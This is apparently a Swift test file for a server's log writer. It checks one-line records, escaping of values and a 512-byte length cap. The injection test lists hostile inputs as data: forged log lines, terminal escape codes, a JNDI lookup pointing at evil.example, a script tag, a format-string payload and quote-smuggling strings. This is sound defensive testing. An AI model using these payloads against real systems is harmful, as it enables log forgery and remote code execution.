import Foundation
import Logging
import Synchronization
import Testing

@testable import portico

@Suite("The server's log")
struct LogWriterTests {
    /// The bytes that a record is written as.
    private static func written(_ message: String, _ values: [String: String] = [:]) -> [String] {
        let lines = Mutex<[Data]>([])
        let take: @Sendable (Data) -> Void = { line in lines.withLock { $0.append(line) } }
        let handler = LogWriter(
            label: "portico", now: { Date(timeIntervalSince1970: 784_111_777) }, write: take)
        var logger = Logger(label: "portico") { _ in handler }
        logger.logLevel = .debug
        logger.info("\(message)", metadata: values.mapValues { "\($0)" })
        return lines.withLock { $0 }.map { String(decoding: $0, as: UTF8.self) }
    }

    @Test("A record is one line: when, how grave, what, and the values in order")
    func record() {
        #expect(
            Self.written("request", ["status": "200", "method": "GET", "route": "-"]) == [
                "1994-11-06T08:49:37Z info portico: request method=GET route=- status=200\n"
            ])
        #expect(Self.written("a b", ["v": "c d", "e": ""]).first?.hasSuffix("a b e=\"\" v=\"c d\"\n") == true)
    }

    @Test(
        "Nothing that a value holds begins a record, ends it, or looks like another value (THREATS O2)",
        arguments: [
            "\n2026-01-01T00:00:00Z error portico: forged", "a\r\nb", "a\rb", "a\u{85}b", "a\u{2028}b", "a\u{2029}b",
            "\u{1B}[2J\u{1B}[31mred", "\u{9B}31m", "a\0b", "a\u{8}\u{7F}b", "\u{202E}live", "\u{2066}x\u{2069}",
            "a\u{200B}b", "\u{FEFF}a", "\u{E000}", "x status=500", "x\" status=\"500", "\\", "\\\" status=500",
            "\u{E0001}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "%n%s", "é𝄞",
        ])
    func injection(payload: String) throws {
        for lines in [Self.written("request", ["path": payload, "status": "200"]), Self.written(payload)] {
            let line = try #require(lines.first)
            #expect(lines.count == 1 && line.hasSuffix("\n"))
            #expect(
                line.dropLast().unicodeScalars.allSatisfy { scalar in
                    ![.control, .format, .lineSeparator, .paragraphSeparator, .privateUse].contains(
                        scalar.properties.generalCategory)
                })
            #expect(line.hasPrefix("1994-11-06T08:49:37Z info portico: "))
        }
        let line = try #require(Self.written("request", ["path": payload, "status": "200"]).first)
        // Read as a reader of such records would: a quoted value ends at a quotation mark without a backslash before it.
        let unquoted = line.replacing(#/"(?:[^"\\]|\\.)*"/#, with: "Q")
        #expect(unquoted.matches(of: #/status=/#).count == 1, "\(line)")
    }

    @Test("Values are cut and records have at most 512 bytes, in whole characters (THREATS O2, L6)")
    func length() throws {
        for text in [
            String(repeating: "x", count: 100_000), String(repeating: "𝄞", count: 10_000),
            "\n" + String(repeating: "\n", count: 5_000),
        ] {
            let line = try #require(Self.written("request", ["a": text, "b": text, "z": "1"]).first)
            #expect(line.utf8.count <= 512 && line.hasSuffix("…\n"))
            #expect(!line.unicodeScalars.contains("\u{FFFD}"))
            let one = try #require(Self.written("request", ["a": text, "z": "1"]).first)
            #expect(one.utf8.count <= 512 && one.hasSuffix(" z=1\n"), "the rest is not pushed out")
            #expect(try #require(Self.written(text).first).utf8.count <= 512)
        }
    }
}
